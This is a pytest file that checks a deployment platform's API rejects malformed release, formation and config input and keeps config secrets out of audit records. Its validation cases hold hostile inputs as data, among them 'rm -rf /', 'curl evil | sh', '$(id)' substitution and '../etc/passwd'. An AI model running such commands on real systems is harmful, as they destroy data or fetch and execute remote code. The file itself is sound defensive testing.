"""Bad deploy input gets a clear 4xx naming the field, and changes nothing (issue 3, "Must hold")."""

import pytest

from berth.applications.models import App, ConfigVar, Formation, Release
from berth.deployments.models import Deployment
from berth.deployments.services import release_create
from tests.factories import AppFactory, ContainerFactory, HostFactory, SizeFactory

BASE = "/api/v1/orgs/acme/apps/shop"


@pytest.fixture
def app(organization, members, owner_client):
    app = AppFactory(organization=organization, name="shop")
    HostFactory(memory_mb=2048)
    SizeFactory(name="small", memory_mb=64, is_default=True)
    SizeFactory(name="huge", memory_mb=4096)
    return app


def counts():
    return (
        Release.objects.count(),
        Deployment.objects.count(),
        ConfigVar.objects.count(),
        list(Formation.objects.values_list("quantity", "size__name")),
    )


def refused(response, status: int, field: str, code: str | None = None):
    assert response.status_code == status, response.content
    body = response.json()
    assert field in body["fields"], body
    if code:
        assert body["error"] == code
    return body


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("process_types", "field", "reason"),
    [
        ({"web": {"port": 70000}}, "process_types.web.port", "1 to 65535"),
        ({"web": {"port": 0}}, "process_types.web.port", "1 to 65535"),
        ({"web": {"port": "80"}}, "process_types.web.port", "whole number"),
        ({"web": {"command": "server; rm -rf /"}}, "process_types.web.command", "shell operators"),
        ({"web": {"command": "server && curl evil | sh"}}, "process_types.web.command", "shell operators"),
        ({"web": {"command": "echo $(id)"}}, "process_types.web.command", "shell operators"),
        ({"web": {"command": "unbalanced 'quote"}}, "process_types.web.command", "cannot be split"),
        ({"web": {"command": [1, 2]}}, "process_types.web.command", "list of strings"),
        ({"Web": {}}, "process_types.Web", "lowercase"),
        (
            {"web": {"health_check": {"type": "http", "path": "no-slash"}}},
            "process_types.web.health_check.path",
            "start with /",
        ),
        ({"web": {"health_check": {"type": "udp"}}}, "process_types.web.health_check.type", "one of"),
        (
            {"worker": {"port": None, "health_check": {"type": "http"}}},
            "process_types.worker.health_check.type",
            "needs the process type to have a port",
        ),
        ({"web": {"health_check": {"retries": -1}}}, "process_types.web.health_check.retries", "between"),
        ({"web": {"volumes": ["/:/host"]}}, "process_types.web", "Unknown"),
        ([], "process_types", "at least one"),
    ],
)
def test_bad_process_types(app, owner_client, process_types, field, reason):
    before = counts()
    response = owner_client.post(
        f"{BASE}/releases/", {"image": "berth-test/web:v1", "process_types": process_types}, format="json"
    )
    body = refused(response, 400, field)
    assert reason in body["fields"][field][0]
    assert counts() == before


@pytest.mark.django_db
@pytest.mark.parametrize("image", ["", "UPPER/case", "name with space", "a" * 300, "img:tag:tag", "../etc/passwd"])
def test_bad_image_references(app, owner_client, image):
    before = counts()
    refused(owner_client.post(f"{BASE}/releases/", {"image": image}, format="json"), 400, "image")
    assert counts() == before


@pytest.mark.django_db
def test_a_release_answers_at_once_with_a_queued_deployment(app, owner_client):
    response = owner_client.post(
        f"{BASE}/releases/", {"image": "berth-test/web:v1", "description": "first"}, format="json"
    )
    assert response.status_code == 201
    body = response.json()
    assert body["release"]["version"] == 1 and body["deployment"]["state"] == "queued"
    detail = owner_client.get(f"{BASE}/deployments/{body['deployment']['id']}/").json()
    assert detail["steps"][0]["message"].startswith("Queued")


@pytest.fixture
def released(app, members):
    from berth.tenancy.roles import Role

    release, _ = release_create(actor=members[Role.OWNER], app=app, image="berth-test/web:v1")
    App.objects.filter(pk=app.pk).update(current_release=release)
    return release


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("change", "field", "code"),
    [
        ({"web": {"quantity": -1}}, "formation.web.quantity", "validation_error"),
        ({"web": {"quantity": 101}}, "formation.web.quantity", "validation_error"),
        ({"web": {"quantity": "many"}}, "formation.web.quantity", "validation_error"),
        ({"web": {"size": "huge"}}, "web.size", "size_too_big"),
        ({"web": {"size": "nonexistent"}}, "web.size", "invalid"),
        ({"worker": {"quantity": 1}}, "worker", "invalid"),
        ({"web": {"replicas": 2}}, "formation.web.replicas", "validation_error"),
    ],
)
def test_bad_formation_changes(released, owner_client, change, field, code):
    before = counts()
    refused(owner_client.patch(f"{BASE}/formation/", {"formation": change}, format="json"), 400, field, code)
    assert counts() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("config", "field", "code"),
    [
        ({"lower": "x"}, "lower", "invalid"),
        ({"BERTH_APP": "x"}, "BERTH_APP", "reserved_key"),
        ({"PORT": "1"}, "PORT", "reserved_key"),
        ({"KEY": "a\x00b"}, "config.KEY", "validation_error"),
        ({"KEY": 5}, None, None),
    ],
)
def test_bad_config(released, owner_client, config, field, code):
    before = counts()
    response = owner_client.patch(f"{BASE}/config/", {"config": config}, format="json")
    if field is None:  # a number is taken as its text, as environment variables are text
        assert response.status_code == 202
        return
    refused(response, 400, field, code)
    assert counts() == before


@pytest.mark.django_db
def test_config_values_are_encrypted_and_never_audited(released, owner_client):
    from django.db import connection

    from berth.audit.models import AuditEvent

    response = owner_client.patch(f"{BASE}/config/", {"config": {"DATABASE_PASSWORD": "hunter2-secret"}}, format="json")
    assert response.status_code == 202
    assert response.json()["release"]["config_keys"] == ["DATABASE_PASSWORD"]
    with connection.cursor() as cursor:
        cursor.execute("SELECT value FROM applications_configvar")
        stored = [row[0] for row in cursor.fetchall()]
        cursor.execute("SELECT config FROM applications_release")
        snapshots = [row[0] for row in cursor.fetchall()]
    assert stored and all("hunter2" not in value for value in stored + snapshots)
    assert "hunter2" not in str(list(AuditEvent.objects.values()))
    assert owner_client.get(f"{BASE}/config/").json() == {"config": {"DATABASE_PASSWORD": "hunter2-secret"}}
    unset = owner_client.patch(f"{BASE}/config/", {"config": {"DATABASE_PASSWORD": None}}, format="json")
    assert unset.json()["config"] == {}


@pytest.mark.django_db
def test_reading_config_values_is_audited_by_key(released, owner_client):
    """The API's read returns values, so it is recorded like a reveal in the dashboard: keys, never values."""
    from berth.audit.models import AuditEvent

    owner_client.patch(f"{BASE}/config/", {"config": {"API_KEY": "s3cr3t-value", "MODE": "fast"}}, format="json")
    assert not AuditEvent.objects.filter(action="config.reveal").exists()
    assert owner_client.get(f"{BASE}/config/").json() == {"config": {"API_KEY": "s3cr3t-value", "MODE": "fast"}}
    event = AuditEvent.objects.get(action="config.reveal")
    assert (event.source, event.organization_slug, event.changes) == ("api", "acme", {"keys": ["API_KEY", "MODE"]})
    assert "s3cr3t" not in str(list(AuditEvent.objects.values()))


@pytest.mark.django_db
def test_rollback_to_a_missing_version_is_404(released, owner_client):
    before = counts()
    refused(owner_client.post(f"{BASE}/releases/rollback/", {"version": 99}, format="json"), 404, "version")
    assert counts() == before


@pytest.mark.django_db
def test_restarting_another_apps_container_is_404(released, owner_client, organization):
    other = AppFactory(organization=organization, name="other")
    theirs = ContainerFactory(app=other, release=released, host=HostFactory(), size=released.app.formation.get().size)
    before = counts()
    refused(owner_client.post(f"{BASE}/containers/restart/", {"container": theirs.pk}, format="json"), 404, "container")
    assert counts() == before


@pytest.mark.django_db
def test_no_docker_call_happens_in_a_request(app, owner_client, monkeypatch):
    """The control plane never talks to an engine: any attempt to connect fails this test."""
    import docker

    def refuse(*args, **kwargs):
        raise AssertionError("a Docker engine was contacted inside an HTTP request")

    monkeypatch.setattr(docker.APIClient, "__init__", refuse)
    monkeypatch.setattr(docker.DockerClient, "__init__", refuse)
    assert owner_client.post(f"{BASE}/releases/", {"image": "berth-test/web:v1"}, format="json").status_code == 201
    assert owner_client.patch(
        f"{BASE}/formation/", {"formation": {"web": {"quantity": 3}}}, format="json"
    ).status_code in (200, 202)
    assert owner_client.get(f"{BASE}/containers/").status_code == 200
